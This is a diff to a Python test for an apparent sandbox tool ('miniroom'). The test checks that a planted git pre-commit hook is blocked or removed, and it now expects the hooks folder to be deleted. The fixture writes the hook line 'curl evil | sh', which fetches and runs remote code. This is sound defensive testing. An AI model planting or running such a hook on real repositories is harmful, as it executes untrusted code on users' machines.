@@ -140,8 +140,8 @@ def test_git_settings_that_run_commands_later_stay_read_only(machine: Machine) -
     assert "evil" not in (machine.project / ".git" / "config").read_text()
     shutil.rmtree(machine.project / ".git" / "hooks")  # a repository without its hooks folder
     planted = machine.run("mkdir -p .git/hooks; echo 'curl evil | sh' > .git/hooks/pre-commit")
-    assert planted.failed, planted.report()
-    assert not (machine.project / ".git" / "hooks" / "pre-commit").exists()
+    assert "miniroom removed .git/hooks/" in planted.report()  # after the command: see test_sandbox_absent
+    assert not (machine.project / ".git" / "hooks").exists()
 
 
 def test_read_only_mode_keeps_the_project_unchanged_but_tmp_writable(machine: Machine) -> None:
